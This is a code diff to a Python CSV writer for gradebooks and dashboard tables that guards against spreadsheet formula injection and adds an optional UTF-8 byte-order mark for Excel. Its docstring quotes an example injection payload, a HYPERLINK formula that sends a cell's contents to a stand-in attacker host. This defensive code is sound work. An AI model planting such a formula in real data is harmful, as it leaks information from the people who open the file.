@@ -1,5 +1,5 @@
 """CSV files that staff open in a spreadsheet (gradebooks, dashboard tables): the one writer of them,
-which keeps a cell from being read as a formula.
+which keeps a cell from being read as a formula, and the byte-order mark their downloads start with.
 
 A student chooses their own name. Written as it is, `=HYPERLINK("https://evil.example/?"&A2, "x")`
 runs when the instructor opens the gradebook in Excel, LibreOffice or Google Sheets. Following the
@@ -20,6 +20,11 @@ import io
 import re
 from typing import Any, Iterable
 
+#: The UTF-8 byte-order mark a downloaded CSV starts with: Excel reads a CSV without it in the system's
+#: legacy code page (CP949 on Korean Windows), garbling every Korean name and title; with it, UTF-8.
+#: Canvas's and Moodle's grade importers skip it (README: Importing the gradebook CSVs).
+BOM = "\ufeff"
+
 #: The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 _NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
@@ -36,9 +41,12 @@ def safe_cell(value: Any) -> str:
     return text
 
 
-def write_rows(out, rows: Iterable[Iterable[Any]]) -> None:
+def write_rows(out, rows: Iterable[Iterable[Any]], bom: bool = False) -> None:
     """Write `rows` (each a sequence of cells) to the text stream `out` (a file, a StringIO, an
-    HttpResponse) as CSV with CRLF line ends, every cell through safe_cell and quoted."""
+    HttpResponse) as CSV with CRLF line ends, every cell through safe_cell and quoted; with `bom`, BOM
+    first (a download a spreadsheet opens)."""
+    if bom:
+        out.write(BOM)
     writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
     writer.writerows([safe_cell(c) for c in row] for row in rows)
 
